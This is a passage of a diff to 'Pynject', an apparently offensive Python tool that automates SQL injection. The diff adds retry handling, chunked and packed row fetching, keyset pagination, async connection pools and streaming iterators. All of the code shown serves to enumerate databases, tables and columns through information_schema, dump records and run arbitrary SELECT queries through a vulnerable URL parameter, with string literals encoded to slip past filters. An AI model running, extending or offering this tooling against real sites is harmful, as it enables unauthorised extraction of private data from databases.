+            if after != None and after.strip().isdigit():
+                delay = min( self.cap, max( delay, float(after) ) )
+
+        with self.lock:
+            if delay == None:
+                self.giveups += 1
+            else:
+                self.retries += 1
+                self.reasons[ RetryPolicy.reason(e) ] = self.reasons.get( RetryPolicy.reason(e), 0 ) + 1
+        return delay
+
+class FetchJob:
+    def __init__( self, injector, container, what, table, where, index, xtype, nstrings, offset = 0 ):
+        self.injector  = injector
+        self.container = container
+        self.what      = what
+        self.table     = table
+        self.where     = where
+        # a list of indexes is fetched in a single request, one row for each marker
+        self.index     = index
+        self.indexes   = index if type(index) == list else [index]
+        self.xtype     = xtype
+        self.nstrings  = nstrings
+        self.offset    = offset
+
+    def run(self):
+        outputs = {}
+        attempt = 0
+        while True:
+            missing = self.__missing(outputs)
+            error   = None
+            try:
+                self.__merge( outputs, missing, self.injector.sqlInject( self.what, self.table, self.where, self.__index(missing), self.xtype, self.nstrings ) )
+            except Exception as e:
+                error = e
+            delay = self.__retry( outputs, attempt, error )
+            if delay == None:
+                break
+            attempt += 1
+            time.sleep(delay)
+
+        self.__store( outputs, error )
+
+    async def arun(self):
+        outputs = {}
+        attempt = 0
+        while True:
+            missing = self.__missing(outputs)
+            error   = None
+            try:
+                self.__merge( outputs, missing, await self.injector.sqlInjectAsync( self.what, self.table, self.where, self.__index(missing), self.xtype, self.nstrings ) )
+            except Exception as e:
+                error = e
+            delay = self.__retry( outputs, attempt, error )
+            if delay == None:
+                break
+            attempt += 1
+            await asyncio.sleep(delay)
+
+        self.__store( outputs, error )
+
+    def __retry( self, outputs, attempt, error ):
+        return self.injector.retry.delay( attempt, error ) if self.__missing(outputs) else None
+
+    def __missing( self, outputs ):
+        return [ index for index in self.indexes if outputs.get(index) == None ]
+
+    def __index( self, missing ):
+        return missing if type(self.index) == list else missing[0]
+
+    def __merge( self, outputs, missing, results ):
+        outputs.update( zip( missing, results if type(self.index) == list else [results] ) )
+
+    def __store( self, outputs, error ):
+        for index in self.indexes:
+            output = outputs.get(index)
+            if output == None:
+                # left to the requeue pass
+                self.container.fail( index - self.offset, RetryPolicy.reason(error) )
+            else:
+                self.container[index - self.offset] = output
+
+class ChunkPlanner:
+    def __init__( self, ranges, size, slots = 1 ):
+        """Initialize the chunk planner, it hands out ( index, count ) ranges of rows to pack in a single request.
+        
+            ranges (list) : The ( start, end ) ranges of row indexes to fetch, end excluded.
+            size (int)    : Maximum number of rows per range, shrunk automatically when responses come back truncated.
+            slots (int)   : How many ranges to hand out at each iteration, one for each marker.
+        """
+        self.slots    = slots
+        self.size     = size if size > 0 else 1
+        self.max      = self.size
+        self.pending  = list(ranges)
+        self.inflight = 0
+        self.requests = 0
+        self.rows     = 0
+        self.sizes    = {}
+        self.stopped  = False
+        self.cond     = threading.Condition()
+
+    def __str__(self):
+        return "Chunk Planner( Size={0}, Requests={1}, Rows={2} )".format( self.size, self.requests, self.rows )
+
+    def __iter__(self):
+        return self
+
+    def __next__(self):
+        return self.take( self.slots )
+
+    def take( self, n = 1 ):
+        """Return a list of up to n ( index, count ) ranges, waiting only if there is none available yet."""
+        chunks = []
+        with self.cond:
+            while len(chunks) < n:
+                if self.stopped:
+                    break
+                elif self.pending:
+                    start, end = self.pending.pop(0)
+                    count      = min( self.size, end - start )
+                    if start + count < end:
+                        self.pending.insert( 0, ( start + count, end ) )
+                elif self.inflight == 0 or chunks:
+                    break
+                else:
+                    # wait for the running chunks, they could give back some rows
+                    self.cond.wait()
+                    continue
+
+                self.inflight += 1
+                chunks.append( ( start, count ) )
+
+        if not chunks:
+            raise StopIteration
+        return chunks
+
+    def stop(self):
+        """Stop handing out ranges, used when the pool running the chunks gets cancelled."""
+        with self.cond:
+            self.stopped = True
+            self.cond.notify_all()
+
+    def abandon( self, index, count ):
+        """Account a chunk given up on, its rows are not handed out again."""
+        with self.cond:
+            self.inflight -= 1
+            self.requests += 1
+            self.cond.notify_all()
+
+    def complete( self, index, count, got ):
+        """Account a finished chunk of count rows starting at index, of which only got came back."""
+        with self.cond:
+            self.inflight       -= 1
+            self.requests       += 1
+            self.rows           += got
+            self.sizes[got]      = self.sizes.get( got, 0 ) + 1
+            if got < count:
+                # truncated response, shrink the chunk and give back the missing rows first
+                self.size = max( 1, got if got > 0 else count // 2 )
+                self.pending.insert( 0, ( index + got, index + count ) )
+            elif self.size < self.max:
+                self.size = min( self.max, self.size + max( 1, self.size // 8 ) )
+            self.cond.notify_all()
+
+class PackedFetchJob:
+    def __init__( self, injector, planner, container, what, table, where, chunks, nstrings, offset = 0 ):
+        self.injector  = injector
+        self.planner   = planner
+        self.container = container
+        self.what      = what
+        self.table     = table
+        self.where     = where
+        # ( index, count ) ranges, one for each marker
+        self.chunks    = chunks
+        self.nstrings  = nstrings
+        self.offset    = offset
+
+    def run(self):
+        attempt = 0
+        while True:
+            try:
+                results = self.injector.sqlInject( self.what, self.table, self.where, [ c[0] for c in self.chunks ], "packed", self.nstrings, [ c[1] for c in self.chunks ] )
+                break
+            except Exception as e:
+                # an empty answer shrinks the chunk, an error must not, so it is retried as it is
+                delay = self.injector.retry.delay( attempt, e )
+                if delay == None:
+                    return self.__abandon(e)
+                attempt += 1
+                time.sleep(delay)
+
+        for index in self.__fallbacks(results):
+            # a single row still does not fit, fall back to the classic request
+            self.__fallback(index).run()
+        self.__store(results)
+
+    async def arun(self):
+        attempt = 0
+        while True:
+            try:
+                results = await self.injector.sqlInjectAsync( self.what, self.table, self.where, [ c[0] for c in self.chunks ], "packed", self.nstrings, [ c[1] for c in self.chunks ] )
+                break
+            except Exception as e:
+                delay = self.injector.retry.delay( attempt, e )
+                if delay == None:
+                    return self.__abandon(e)
+                attempt += 1
+                await asyncio.sleep(delay)
+
+        for index in self.__fallbacks(results):
+            # a single row still does not fit, fall back to the classic request
+            await self.__fallback(index).arun()
+        self.__store(results)
 
-class FetchThread(threading.Thread):
-    def __init__( self, injector, container, what, table, where, index, xtype, nstrings ):
-        threading.Thread.__init__(self)
+    def __abandon( self, e ):
+        for index, count in self.chunks:
+            for i in range(index,index + count):
+                self.container.fail( i - self.offset, RetryPolicy.reason(e) )
+            self.planner.abandon( index, count )
+
+    def __fallbacks( self, results ):
+        return [ index for ( index, count ), rows in zip( self.chunks, results ) if not rows and count == 1 ]
+
+    def __fallback( self, index ):
+        # a subquery slot keeps any GROUP BY or ORDER BY of the where clause away from the UNION
+        return FetchJob( self.injector, self.container, self.what, self.table, self.where, [index], "strings", self.nstrings, self.offset )
+
+    def __store( self, results ):
+        for ( index, count ), rows in zip( self.chunks, results ):
+            rows = rows[:count] if rows else []
+            for i, row in enumerate(rows):
+                self.container[index - self.offset + i] = row
+            # single rows have been stored by the fallback anyway
+            self.planner.complete( index, count, len(rows) if count > 1 else 1 )
+        
+class KeysetFetchJob:
+    def __init__( self, injector, container, what, table, key, walks, size, nfields, offset = 0 ):
         self.injector  = injector
         self.container = container
         self.what      = what
         self.table     = table
-        self.where     = where
-        self.index     = index
-        self.xtype     = xtype
-        self.nstrings  = nstrings
+        self.key       = key
+        self.position  = what.index(key)
+        # [ cursor, skip, index, end, size ] walks, one for each marker, each one fetches the rows of indexes
+        # index to end going on from the key of the last row it got, skipping skip rows only the first time
+        self.walks     = walks
+        self.size      = size
+        # the key could have been added to the fields only to walk them
+        self.nfields   = nfields
+        self.offset    = offset
 
     def run(self):
-        try:    
-            # Attempt for 5 times if output == None 
-            for attempt in range(0,5):
-                output = self.injector.sqlInject( self.what, self.table, self.where, self.index, self.xtype, self.nstrings )
-                if output != None:
-                    break
-                
-            if output == None:
-                print( "! WARNING: Thread {0} received None output, probably something is wrong in your injection!".format(self.index) )
-                
-            self.container[self.index] = output
-        except Exception as e:
-            print( "! Exception in thread {0} : {1}".format( self.index, e ) )
-        
+        attempt = 0
+        while True:
+            error = None
+            moved = True
+            for packed, walks in self.__batches():
+                try:
+                    results = self.injector.sqlInject( *self.__request( packed, walks ) )
+                    moved   = self.__advance( packed, walks, results ) and moved
+                except Exception as e:
+                    error   = e
+                    moved   = False
+            if not self.__active():
+                break
+            elif moved:
+                attempt = 0
+                continue
+            delay = self.injector.retry.delay( attempt, error )
+            if delay == None:
+                return self.__abandon(error)
+            attempt += 1
+            time.sleep(delay)
+
+    async def arun(self):
+        attempt = 0
+        while True:
+            error = None
+            moved = True
+            for packed, walks in self.__batches():
+                try:
+                    results = await self.injector.sqlInjectAsync( *self.__request( packed, walks ) )
+                    moved   = self.__advance( packed, walks, results ) and moved
+                except Exception as e:
+                    error   = e
+                    moved   = False
+            if not self.__active():
+                break
+            elif moved:
+                attempt = 0
+                continue
+            delay = self.injector.retry.delay( attempt, error )
+            if delay == None:
+                return self.__abandon(error)
+            attempt += 1
+            await asyncio.sleep(delay)
+
+    def __active(self):
+        return [ walk for walk in self.walks if walk[2] < walk[3] ]
+
+    def __batches(self):
+        # walks whose single row does not fit in a packed response ( size 0 ) are fetched with a classic request
+        walks = self.__active()
+        if self.size == 1:
+            return [ ( False, walks ) ] if walks else []
+        return [ ( packed, batch ) for packed, batch in ( ( True,  [ walk for walk in walks if walk[4] > 0 ] ),
+                                                          ( False, [ walk for walk in walks if walk[4] == 0 ] ) ) if batch ]
+
+    def __request( self, packed, walks ):
+        cursors = [ ( walk[0], walk[1] ) for walk in walks ]
+        if packed:
+            return ( self.what, self.table, None, cursors, "packed", len(self.what), [ min( walk[4], walk[3] - walk[2] ) for walk in walks ], self.key )
+        return ( self.what, self.table, None, cursors, "strings", len(self.what), None, self.key )
+
+    def __advance( self, packed, walks, results ):
+        # store the rows every walk got and move its cursor after them, False if one of them got nothing
+        moved = True
+        for walk, rows in zip( walks, results ):
+            if not packed:
+                rows = [ rows ] if rows != None else []
+            rows = rows[:walk[3] - walk[2]]
+            if rows and not all( re.match( "^-?[0-9]+$", row[self.position] ) for row in rows ):
+                rows = []
+            if not rows:
+                if packed:
+                    # a truncated response, shrink the walk down to a single row and then to a classic request
+                    walk[4] = walk[4] // 2
+                else:
+                    moved = False
+                continue
+
+            for row in rows:
+                self.container[ walk[2] - self.offset ] = row[:self.nfields]
+                walk[2] += 1
+            walk[0] = int( rows[-1][self.position] )
+            walk[1] = 0
+            walk[4] = min( self.size, max( 1, walk[4] * 2 ) )
+        return moved
+
+    def __abandon( self, e ):
+        for walk in self.__active():
+            for index in range(walk[2],walk[3]):
+                self.container.fail( index - self.offset, RetryPolicy.reason(e) )
+
 class Pynject:
-    def __init__( self, url, marker, comment, max_threads = 30, verbose = False, debug = False ):
-        self.url     = url
-        self.marker  = marker
-        self.comment = comment
-        self.window  = max_threads
-        self.verbose = verbose
-        self.debug   = debug
+    # a word after one of these keywords is part of the expression, these words can not be aliases at all
+    KEYWORDS = ( "AND", "OR", "XOR", "NOT", "IS", "DIV", "MOD", "LIKE", "REGEXP", "RLIKE", "IN", "BINARY", "INTERVAL",
+                 "ESCAPE", "SOUNDS", "CASE", "WHEN", "THEN", "ELSE", "DISTINCT", "COLLATE", "BETWEEN" )
+    LITERALS = ( "NULL", "TRUE", "FALSE", "UNKNOWN", "END" )
+
+    def __init__( self, url, marker, comment, max_threads = 30, max_connections = None, engine = 'threads', pack = None, session = None, writer = None, ordered = True, buffer = 10000, controller = None, retry = None, timeout = None, compression = True, stats = None, literals = 'hex', max_url = None, keyset = None, quiet = False, verbose = False, debug = False ):
+        self.url          = url
+        self.markers      = marker if type(marker) == list else [marker]
+        self.marker       = self.markers[0]
+        self.comment      = comment
+        self.window       = max_threads
+        self.engine       = engine
+        self.pack         = pack
+        self.session      = session
+        self.writer       = writer
+        self.ordered      = ordered
+        self.buffer       = buffer
+        self.controller   = controller
+        self.retry        = retry if retry != None else RetryPolicy()
+        self.stats        = stats
+        self.literals     = literals
+        self.maxurl       = max_url
+        # walk the records along this key column ( True to look for the primary key ) instead of LIMIT offsets
+        self.keyset       = keyset
+        # compiled query templates, one for every fetch
+        self.templates    = {}
+        if stats != None:
+            stats.attach( "retries",     lambda: { "retries" : self.retry.retries, "given_up" : self.retry.giveups, "reasons" : dict(self.retry.reasons) } )
+            stats.attach( "connections", lambda: { "opened" : self.connections.opened + self.aconnections.opened, "reused" : self.connections.reused + self.aconnections.reused } )
+            stats.attach( "progress",    lambda: { "waited" : round( self.waited, 3 ), "cpu" : round( self.waitedCpu, 3 ) } )
+            stats.attach( "settings",    lambda: { "engine" : self.engine, "threads" : self.window, "markers" : len(self.markers), "pack" : self.pack } )
+            if controller != None:
+                stats.attach( "concurrency", lambda: { "limit" : int(controller.limit), "inflight" : controller.inflight, "requests" : controller.requests, "errors" : controller.errors } )
+        self.quiet        = quiet
+        self.verbose      = verbose
+        self.debug        = debug
+        # set by the threads running the fetch of an iterator, and to stop it when the caller stops iterating
+        self.iterating    = threading.local()
+        self.stopping     = threading.Event()
+        self.connections  = ConnectionPool( max_connections if max_connections != None else max_threads, timeout, compression )
+        self.aconnections = AsyncConnectionPool( max_connections if max_connections != None else max_threads, timeout, compression )
+        self.loop         = None
+        # time spent by the main thread waiting for the pools, and how much of it on the CPU
+        self.waited       = 0.0
+        self.waitedCpu    = 0.0
         self.dbs     = []
         self.tables  = {}
         self.columns = {}
@@ -178,209 +2157,764 @@ class Pynject:
         self.query   = None
         self.data    = None
 
-    def execQuery( self, query ):
-        print( "@ Executing user query ." )
+    def execQuery( self, query, start = 0, end = -1 ):
+        """Fetch the rows of a user SELECT, wrapped in a derived table and paged like the records of a table."""
+        self.__query( query, start, end, self.writer, self.ordered )
+
+    def __query( self, query, start, end, writer, ordered ):
+        self.__print( "@ Executing user query ." )
+        self.__phase("query")
         
         self.query = query
         
-        # encode all '...' strings to CHR(...)
+        # encode all '...' strings to literals
         rex     = re.compile( "'([^']+)'" )
         strings = rex.findall(query)
         if len(strings):
             for string in strings:
-                query = query.replace( "'{0}'".format(string), self.__stringToChrSeq(string) )
-        # now encode all "..." strings to CHR(...)
+                query = query.replace( "'{0}'".format(string), self.__literal(string) )
+        # now encode all "..." strings to literals
         rex     = re.compile( '"([^"]+)"' )
         strings = rex.findall(query)
         if len(strings):
             for string in strings:
-                query = query.replace( '"{0}"'.format(string), self.__stringToChrSeq(string) )
+                query = query.replace( '"{0}"'.format(string), self.__literal(string) )
+
+        fields, what, table = self.__wrapQuery(query)
+
+        if end == -1:
+            end = self.__fetchCount( "query:{0}".format(self.query), what = "COUNT(*)", table = table, where = None )
+            if end == None:
+                raise Exception( "Could not fetch number of rows of the query." )
+
+        self.data = self.__newRows( "query", fields, start, end, "query", self.query, writer, ordered )
+        self.__fetchRows( self.data, what, table, "rows" )
+
+    def __wrapQuery( self, query ):
+        # the select list gets plain aliases, so that the query can be used as a derived table and its
+        # columns fetched like those of a table : returns the column names, the aliases and the table
+        flat   = self.__flatten(query)
+        select = re.match( r"\s*SELECT\s+((?:(?:ALL|DISTINCT|DISTINCTROW|HIGH_PRIORITY|STRAIGHT_JOIN|SQL_\w+)\s+)*)", flat, re.I )
+        if select == None:
+            raise Exception( "Only SELECT queries can be executed." )
+        after  = re.search( r"\bFROM\b", flat[select.end():], re.I )
+        end    = select.end() + after.start() if after != None else len(query)
+        bounds = [ select.end() - 1 ] + [ n for n in range( select.end(), end ) if flat[n] == ',' ] + [ end ]
+
+        fields  = []
+        columns = []
+        for n in range( 0, len(bounds) - 1 ):
+            column = query[ bounds[n] + 1 : bounds[n + 1] ].strip()
+            named  = re.match( r"^(.*\S)\s+AS\s+(`[^`]+`|\w+)$", column, re.I | re.S )
+            bare   = re.match( r"^(.*[\w)`'\]])\s+(`[^`]+`|[A-Za-z_]\w*)$", column, re.S )
+            if named != None:
+                expression, name = named.group(1), named.group(2).strip('`')
+            elif bare != None and not self.__inExpression( bare.group(1), bare.group(2) ):
+                expression, name = bare.group(1), bare.group(2).strip('`')
+            else:
+                expression, name = column, column
+            if expression == '*' or expression.endswith('.*'):
+                raise Exception( "The query must list the columns it selects, '{0}' can not be fetched.".format(expression) )
+            fields.append(name)
+            columns.append( "{0} AS pynjectq{1}".format( expression, n ) )
+
+        rest = query[end:]
+        # a derived table may ignore the order of its rows unless it is limited too
+        if re.search( r"\bORDER\s+BY\b", flat[end:], re.I ) and not re.search( r"\bLIMIT\b", flat[end:], re.I ):
+            rest = rest.rstrip() + " LIMIT 18446744073709551615"
 
-        self.data = self.sqlInject( what = "({0})".format( urllib.parse.quote(query) ), table = None, where = None, index = None, xtype = "string" )
+        inner = "SELECT {0}{1} {2}".format( query[ len(select.group(0)) - len(select.group(1)) : select.end() ], ', '.join(columns), rest.strip() )
+        return fields, [ "pynjectq{0}".format(n) for n in range( 0, len(columns) ) ], "({0})%20AS%20pynjectq".format( urllib.parse.quote( inner.strip() ) )
+
+    def __flatten( self, query ):
+        # the query with everything inside parentheses and quotes blanked out, so that the clauses and the commas
+        # of the outer SELECT are the only ones left at their positions
+        flat  = []
+        depth = 0
+        quote = None
+        for c in query:
+            if quote != None:
+                quote = None if c == quote else quote
+                flat.append(' ')
+            elif c in "'\"`":
+                quote = c
+                flat.append(' ')
+            elif c == '(':
+                depth += 1
+                flat.append(' ')
+            elif c == ')':
+                depth -= 1
+                flat.append(' ')
+            else:
+                flat.append( c if depth == 0 else ' ' )
+        return ''.join(flat)
+
+    def __inExpression( self, expression, word ):
+        # True if the last word of a column is part of its expression and not an alias ( x IS NULL, a DIV b, CASE ... END )
+        last = re.search( r"(\w+)\s*$", expression )
+        return word.upper() in Pynject.LITERALS or ( last != None and last.group(1).upper() in Pynject.KEYWORDS )
 
     def fetchDatabases( self ):
-        print( "@ Fetching number of dbs ." )
+        self.__databases()
+        self.dbs = [ db for db in self.dbs if db != None ]
+
+    def __databases( self, writer = None ):
+        self.__print( "@ Fetching number of dbs ." )
+        self.__phase("names")
             
-        dbnumber = self.sqlInject( what = "COUNT(schema_name)", table = "information_schema.schemata", where = None, index = None, xtype = "int" )
+        dbnumber = self.__fetchCount( "dbs", what = "COUNT(schema_name)", table = "information_schema.schemata", where = None )
 
         if dbnumber == None:
             raise Exception( "Could not fetch number of databases from information_schema." )
 
-        print( "@ Found " + str(dbnumber) + " databases, fetching their names." )
-
-        for dbn in range(0,dbnumber):
-            dbname = self.sqlInject( what = "schema_name", table = "information_schema.schemata", where = None, index = dbn, xtype = "string" )
-            if dbname == None:
-                raise Exception( "Could not fetch database name." )
-            else:
-                if self.verbose:
-                    print( "\t[{0}] {1}".format(dbn,dbname) )
-                self.dbs.append(dbname)
+        self.dbs = self.__newRows( "dbs", [ "database" ], 0, dbnumber, "dbs", "", writer, self.ordered )
+        self.__fetchNames( self.dbs, "schema_name", "information_schema.schemata", None, "databases" )
 
     def fetchTables( self, db ):
-        print( "@ Fetching number of tables for db '{0}' .".format(db) )
+        self.__tables(db)
+
+    def __tables( self, db, writer = None ):
+        self.__print( "@ Fetching number of tables for db '{0}' .".format(db) )
+        self.__phase("names")
             
-        tbnumber = self.sqlInject( what = "COUNT(table_name)", table = "information_schema.tables", where = "table_schema=" + self.__stringToChrSeq(db), index = None, xtype = "int" )
-        pbar     = ProgressBar( 0, tbnumber )
+        where    = "table_schema=" + self.__literal(db)
+        tbnumber = self.__fetchCount( "tables:" + db, what = "COUNT(table_name)", table = "information_schema.tables", where = where )
         
         if tbnumber == None:
             raise Exception( "Could not fetch number of tables." )
 
-        print( "@ Found {0} tables, fetching their names: {1}".format(tbnumber,pbar), end = '\r' )
-        sys.stdout.flush()
+        self.tables[db] = self.__newRows( "tables", [ "table" ], 0, tbnumber, "tables", db, writer, self.ordered )
+        self.__fetchNames( self.tables[db], "table_name", "information_schema.tables", where, "tables" )
+        
+    def fetchColumns( self, db, table ):
+        self.__columns( db, table )
+
+    def __columns( self, db, table, writer = None ):
+        self.__print( "@ Fetching number of columns for db '{0}' and table '{1}'.".format(db,table) )
+        self.__phase("names")
+            
+        where    = "table_schema={0}%20AND%20table_name={1}".format( self.__literal(db), self.__literal(table) )
+        clnumber = self.__fetchCount( "columns:{0}.{1}".format( db, table ), what = "COUNT(column_name)", table = "information_schema.columns", where = where )
+
+        if clnumber == None:
+            raise Exception( "Could not fetch number of columns." )
+
+        self.columns[table] = self.__newRows( "columns", [ "column" ], 0, clnumber, "columns", "{0}.{1}".format( db, table ), writer, self.ordered )
+        self.__fetchNames( self.columns[table], "column_name", "information_schema.columns", where, "columns" )
+        
+    def fetchRecords( self, db, table, columns, start=0, end=-1 ):
+        self.__records( db, table, columns, start, end, self.writer, self.ordered )
 
-        pool = ThreadPool( window_size = self.window if self.window < tbnumber else tbnumber, prototype = FetchThread, async = True )
+    def __records( self, db, table, columns, start, end, writer, ordered ):
+        self.__print( "@ Fetching number of records for db '{0}' and table '{1}'.".format(db,table) )
+        self.__phase("records")
 
-        self.tables[db] = [None] * tbnumber
+        if end == -1:
+            end = self.countRecords( db, table, columns )
 
-        for tbn in range(0,tbnumber):
-            pool.pushArgs( self,
-                           self.tables[db],
-                           "table_name",
-                           "information_schema.tables",
-                           "table_schema=" + self.__stringToChrSeq(db),
-                           tbn,
-                           "string",
-                           None )
+        # row indexes follow the key in a keyset walk and the table order otherwise, so the two never share their session items
+        key  = ( self.keyset if type(self.keyset) == str else self.__keyColumn( db, table ) ) if self.keyset else None
+        name = "{0}.{1}({2})".format( db, table, ','.join(columns) ) + ( "@" + key if key != None else "" )
 
-        pool.start()
+        self.records[table] = self.__newRows( table, columns, start, end, "records", name, writer, ordered )
+        self.__fetchRows( self.records[table], columns, db + "." + table, "records", ( db, table, key ) if key != None else None )
 
-        self.__waitForPool( pool, tbnumber, pbar, "@ Found {0} tables, fetching their names:".format(tbnumber) )
+    def countRecords( self, db, table, columns ):
+        """Return the number of records of the table, from the session if it is there."""
+        self.__phase("records")
+        rcnumber = self.__fetchCount( "records:{0}.{1}".format( db, table ), what = "COUNT(" + columns[0] + ")", table = db + "." + table, where = None )
+        if rcnumber == None:
+            raise Exception( "Could not fetch number of records." )
+        return rcnumber
 
-        if self.verbose:
-            for index, table in enumerate(self.tables[db]):
-               print( "\t[{0}] {1}".format(index,table) )
-            print("\n")
-        
-    def fetchColumns( self, db, table ):
-        print( "@ Fetching number of columns for db '{0}' and table '{1}'.".format(db,table) )
-            
-        clnumber = self.sqlInject( what = "COUNT(column_name)",
-                                   table = "information_schema.columns",
-                                   where = "table_schema={0}%20AND%20table_name={1}".format( self.__stringToChrSeq(db), self.__stringToChrSeq(table) ),
-                                   index = None,
-                                   xtype = "int" )
-        pbar     = ProgressBar( 0, clnumber )
+    def iterDatabases( self, buffer = 1000 ):
+        """Yield the ( index, name ) of every database as soon as it is fetched, see iterRecords, the holes end up in dbs.holes."""
+        return self.__iterate( lambda writer: self.__databases(writer), buffer )
 
-        if clnumber == None:
-            raise Exception( "Could not fetch number of columns." )
+    def iterTables( self, db, buffer = 1000 ):
+        """Yield the ( index, name ) of every table of db as soon as it is fetched, see iterRecords, the holes end up in tables[db].holes."""
+        return self.__iterate( lambda writer: self.__tables( db, writer ), buffer )
 
-        print( "@ Found {0} columns, fetching their names: {1}".format( clnumber, pbar ), end = '\r' )
-        sys.stdout.flush()
+    def iterColumns( self, db, table, buffer = 1000 ):
+        """Yield the ( index, name ) of every column of db.table as soon as it is fetched, see iterRecords, the holes end up in columns[table].holes."""
+        return self.__iterate( lambda writer: self.__columns( db, table, writer ), buffer )
 
-        pool = ThreadPool( window_size = self.window if self.window < clnumber else clnumber, prototype = FetchThread, async = True )
+    def iterRecords( self, db, table, columns, start = 0, end = -1, ordered = False, buffer = 1000 ):
+        """Yield the ( index, record ) of the records of db.table in start-end as soon as they are fetched, nothing is printed.
 
-        self.columns[table] = [None] * clnumber
+        The workers block when buffer records are waiting to be read, so that a slow caller slows the fetch down
+        instead of piling records up, and the fetch is stopped if the caller stops iterating. If ordered the records
+        come in index order, held back by the reorder buffer of the injector. Records that could not be fetched even
+        after the requeue are skipped, records[table].holes holds their { index : reason } once the iteration is over.
+        Only one iteration at a time for each injector.
+        """
+        return self.__iterate( lambda writer: self.__records( db, table, columns, start, end, writer, ordered ), buffer )
 
-        for cln in range(0,clnumber):
-            pool.pushArgs( self,
-                           self.columns[table],
-                           "column_name",
-                           "information_schema.columns",
-                           "table_schema={0}%20AND%20table_name={1}".format( self.__stringToChrSeq(db), self.__stringToChrSeq(table) ),
-                           cln,
-                           "string",
-                           None )
+    def iterQuery( self, query, start = 0, end = -1, ordered = False, buffer = 1000 ):
+        """Yield the ( index, row ) of the rows of a user SELECT as soon as they are fetched, see execQuery and iterRecords, the holes end up in data.holes."""
+        return self.__iterate( lambda writer: self.__query( query, start, end, writer, ordered ), buffer )
 
-        pool.start()
+    def __iterate( self, fetch, buffer ):
+        # fetch runs in a thread of its own, writing to a queue the caller reads from
+        writer = QueueWriter(buffer)
+        errors = []
 
-        self.__waitForPool( pool, clnumber, pbar, "@ Found {0} columns, fetching their names:".format(clnumber) )
+        def run():
+            self.iterating.active = True
+            try:
+                fetch(writer)
+            except FetchStopped:
+                pass
+            except Exception as e:
+                errors.append(e)
+            finally:
+                writer.close()
 
-        if self.verbose:
-            for index, column in enumerate(self.columns[table]):
-               print( "\t[{0}] {1}".format(index,column) )
-            print("\n")
-        
-    def fetchRecords( self, db, table, columns, start=0, end=-1 ):
-        print( "@ Fetching number of records for db '{0}' and table '{1}'.".format(db,table) )
+        self.stopping.clear()
+        fetcher = threading.Thread( target = run )
+        fetcher.daemon = True
+        fetcher.start()
+        try:
+            for item in writer:
+                yield item
+            if errors:
+                raise errors[0]
+        finally:
+            # the caller stopped iterating, or the fetch is over
+            writer.stop()
+            self.stopping.set()
+            fetcher.join()
+            self.stopping.clear()
 
-        if end == -1:
-            rcnumber = self.sqlInject( what = "COUNT(" + columns[0] + ")", table = db + "." + table, where = None, index = None, xtype = "int" )
-            end      = rcnumber
+    def fetchWholeStructure( self, bulk = False ):
+        if bulk:
+            self.__fetchBulkStructure()
         else:
-            rcnumber = end - start
-            
-        pbar     = ProgressBar( 0, rcnumber )
-        
-        if rcnumber == None:
-            raise Exception( "Could not fetch number of records." )
+            self.fetchDatabases()
+            # Remove system db
+            self.dbs.remove("information_schema")
+            for db in self.dbs:
+                self.fetchTables(db)
+                # holes left by failed requests have already been reported
+                for table in [ table for table in self.tables[db] if table != None ]:
+                    self.fetchColumns( db, table )
 
-        print( "@ Found {0} records, fetching them: {1}".format( rcnumber, pbar ), end = '\r' )
-        sys.stdout.flush()
+        self.__print( "\n" )
 
-        pool = ThreadPool( window_size = self.window if self.window < rcnumber else rcnumber, prototype = FetchThread, async = True )
-        
-        self.records[table] = [None] * rcnumber
+        for db in self.dbs:
+            self.__print( "\nDATABASE {0} :".format(db) )
+            for table in [ table for table in self.tables[db] if table != None ]:
+                self.__print( "\t{0} : {1}".format( table, ', '.join( column for column in self.columns[table] if column != None ) ) )
+                   
+    def __fetchBulkStructure( self ):
+        # names are packed in chunks, --pack sets the initial chunk size
+        size    = self.pack if self.pack else 100
+        system  = self.__literal("information_schema")
+        self.__phase("names")
 
-        for rcn in range(start,end):
-            pool.pushArgs( self, self.records[table], columns, db + "." + table, None, rcn - start, "strings", len(columns) )
+        self.__print( "@ Fetching number of dbs ." )
 
-        pool.start()
+        dbnumber = self.__fetchCount( "dbs", what = "COUNT(schema_name)", table = "information_schema.schemata", where = None )
+        pbar     = ProgressBar( 0, dbnumber )
+
+        if dbnumber == None:
+            raise Exception( "Could not fetch number of databases from information_schema." )
 
-        self.__waitForPool( pool, rcnumber, pbar, "@ Found {0} records, fetching them:".format(rcnumber) )
+        dbs = ResultList( dbnumber, 0, self.session, "bulk-dbs", "" )
+        self.__runPacked( dbs, [ "schema_name" ], "information_schema.schemata", None, dbs.ranges(), size, pbar, "@ Found {0} databases, fetching their names:".format(dbnumber) )
 
-        if self.verbose:
-            for index, record in enumerate(self.records[table]):
-               print( "\t[{0}] {1}".format(index,record) )
-            print("\n")
-        
-    def fetchWholeStructure( self ):
-        self.fetchDatabases()
-        # Remove system db
-        self.dbs.remove("information_schema")
+        self.dbs = [ row[0] for row in dbs if row != None and row[0] != "information_schema" ]
         for db in self.dbs:
-            self.fetchTables(db)
-            for table in self.tables[db]:
-                self.fetchColumns( db, table )
+            self.tables[db] = []
 
-        print( "\n" )
+        # every database at once, one row for each table with all of its columns
+        self.__print( "@ Fetching number of tables ." )
 
-        for db in self.dbs:
-            print( "\nDATABASE {0} :".format(db) )
-            for table in self.tables[db]:
-                print( "\t{0} : {1}".format( table, ', '.join( self.columns[table] ) ) )
-                   
-    def sqlInject( self, what, table, where, index, xtype = 'string', nstrings = None ):
-        token    = self.__randString(5)
-        chrseq   = self.__stringToChrSeq(token)
-        query    = self.__composeQuery( chrseq, what, table, where, index )
-        data     = self.__httpGet(query)
+        where    = "table_schema!={0}%20GROUP%20BY%20table_schema,table_name%20ORDER%20BY%20table_schema,table_name".format(system)
+        tbnumber = self.__fetchCount( "bulk-tables",
+                                      what  = "COUNT(DISTINCT%20CONCAT(table_schema,CHAR(46),table_name))",
+                                      table = "information_schema.columns",
+                                      where = "table_schema!={0}".format(system) )
+        pbar     = ProgressBar( 0, tbnumber )
+
+        if tbnumber == None:
+            raise Exception( "Could not fetch number of tables." )
+
+        rows = ResultList( tbnumber, 0, self.session, "bulk-tables", "" )
+        self.__runPacked( rows,
+                          [ "table_schema", "table_name", "COUNT(column_name)", "GROUP_CONCAT(column_name%20ORDER%20BY%20ordinal_position)" ],
+                          "information_schema.columns",
+                          where,
+                          rows.ranges(),
+                          size,
+                          pbar,
+                          "@ Found {0} tables, fetching their columns:".format(tbnumber) )
+
+        truncated = []
+        for row in rows:
+            if row == None:
+                continue
+            db, table, count, columns = row
+            self.tables.setdefault( db, [] ).append(table)
+            # the column list itself could have been cut by group_concat_max_len
+            if count.isdigit() and len( columns.split(',') ) == int(count):
